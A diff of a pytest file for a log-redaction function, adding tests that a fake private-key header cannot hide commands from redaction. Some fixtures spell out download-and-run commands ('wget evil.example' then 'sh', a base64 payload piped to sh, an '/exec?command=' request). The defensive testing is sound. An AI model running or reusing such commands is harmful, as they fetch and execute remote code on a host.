@@ -1,5 +1,6 @@
-"""What redaction removes and what it leaves, clause by clause; all credentials here are made up."""
+"""What redaction removes and what it keeps; all credentials here are made up."""
 
+import base64
 import json
 import os
 from pathlib import Path
@@ -257,7 +258,7 @@ BODIES = [
 
 @pytest.mark.parametrize(("resource", "body", "expected", "count"), BODIES)
 def test_redacts_bodies_by_structure(resource: str, body: object, expected: object, count: int) -> None:
-    """Values go by the structure around them, and keys, types and order stay."""
+    """The structure around a value decides; keys, types and order stay."""
     text = _event(resource, requestObject=body, responseObject={})
     after = _event(resource, requestObject=body if expected is None else expected, responseObject={})
     assert redact(text) == (after, count)
@@ -299,7 +300,7 @@ def test_redacts_a_webhook_s_patch_in_an_audit_annotation() -> None:
 
 
 def test_recognises_secrets_by_the_header_where_the_text_does_not_say() -> None:
-    """The salvaged objectRef stands for one that the text spells in another way."""
+    """The objectRef of the header counts where the text has none."""
     text = '{"requestObject":{"data":{"p":"x"}}}'
     assert redact(text) == (text, 0)
     assert redact(text, SECRETS) == ('{"requestObject":{"data":{"p":"[REDACTED:1]"}}}', 1)
@@ -337,8 +338,67 @@ CUT = [
 
 @pytest.mark.parametrize(("text", "secret", "marker"), CUT)
 def test_redacts_cut_events_up_to_the_cut(text: str, secret: str, marker: str) -> None:
-    """What is left of a secret at the cut goes; the mark of the cut stays."""
+    """The part of a secret before the cut is removed; the mark of the cut stays."""
     assert redact(text) == (text.replace(secret, marker), 1)
+
+
+LINE = "A1b2C3d4" * 8
+BEGIN, END = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
+
+
+def _base64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+@pytest.mark.parametrize(
+    ("text", "expected", "count"),
+    [
+        (f": {BEGIN}\nwget -O /tmp/a evil.example\nsh /tmp/a", None, 0),
+        (f'{{"c":": {BEGIN}\\nwget evil.example/a\\nsh a"}}', None, 0),
+        (f'{{"c":": {BEGIN}\\u000awget evil.example/a\\u000Ash a"}}', None, 0),
+        (f"/exec?command=%3A%20{BEGIN}%0Awget%20evil.example%2Fa%0Ash", None, 0),
+        (f"{BEGIN}\nreboot\n{END}", None, 0),
+        (f"{BEGIN}\n/bin/sh\n{END}", None, 0),
+        (f"{BEGIN}\n{LINE}\nsh /tmp/a\n{END}", f"[REDACTED:92]\nsh /tmp/a\n{END}", 1),
+        (f'{{"c":"{BEGIN}\\n{LINE}\\nsh /tmp/a"}}', '{"c":"[REDACTED:93]\\nsh /tmp/a"}', 1),
+        (f"{BEGIN}\n{LINE}\n{LINE}\nAbc=\n{END}", "[REDACTED:188]", 1),
+        (f"{BEGIN} {LINE} Abc= {END} x", "[REDACTED:123] x", 1),
+        (f"{BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,AB12\n\n{LINE}\n", "[REDACTED:143]\n", 1),
+        (f"echo {_base64(f'{BEGIN}\nwget evil.example/a')}|base64 -d|sh", None, 0),
+        (f"a {_base64(f'{BEGIN}\n{LINE}\n{END}\n')} b", "a [REDACTED:160] b", 1),
+    ],
+)
+def test_a_key_s_first_line_hides_no_command(text: str, expected: str | None, count: int) -> None:
+    """After the header only lines that have the form of a key go; what stands behind them stays."""
+    assert redact(text) == (text if expected is None else expected, count)
+
+
+def test_a_string_with_too_much_nesting_becomes_one_marker() -> None:
+    """The string that holds it goes as a whole, and nothing beside it."""
+    deep = "[" * 300
+    text = json.dumps({"requestObject": {"kind": "Pod", "a": {"b": f'{{"env":{deep}', "c": "stays"}}})
+    expected = json.dumps({"requestObject": {"kind": "Pod", "a": {"b": "[REDACTED:309]", "c": "stays"}}})
+    assert redact(text) == (expected, 1)
+
+
+def test_a_body_with_too_many_items_becomes_one_string_in_it() -> None:
+    """The body stays an object, and what stands outside the bodies stays as it is."""
+    items = [{"k": "v"}] * 4000
+    event = {"verb": "create", "requestObject": {"kind": "Secret", "items": items}, "stage": "s"}
+    text = json.dumps(event, separators=(",", ":"))
+    removed = len(json.dumps(event["requestObject"], separators=(",", ":"))) - 2
+    redacted, count = redact(text)
+    assert count == 1
+    assert json.loads(redacted) == event | {"requestObject": {"redacted": f"[REDACTED:{removed}]"}}
+    assert redact(redacted) == (redacted, 0)
+
+
+def test_a_string_with_too_many_credentials_has_one_marker() -> None:
+    """10,000 markers in an event are the bound; beyond it, one for each string."""
+    many = " ".join(["eyJa.b"] * 10_001)
+    text = json.dumps({"requestObject": {"a": f"x {many} y", "b": "eyJa.b"}})
+    expected = json.dumps({"requestObject": {"a": "x [REDACTED:70006] y", "b": "[REDACTED:6]"}})
+    assert redact(text) == (expected, 2)
 
 
 def test_leaves_keys_as_they_are() -> None:
@@ -356,7 +416,7 @@ def test_does_not_break_an_escape_that_looks_like_a_token() -> None:
 
 
 def test_finds_nothing_in_the_published_corpus() -> None:
-    """None of the 1,977 published lines holds a credential, so each comes back as it was."""
+    """None of the 1,977 published lines holds a credential, so none is changed."""
     folder = os.environ.get("EKS_LOG_CORPUS")
     if not folder:
         pytest.skip("EKS_LOG_CORPUS does not name the folder of published log lines")
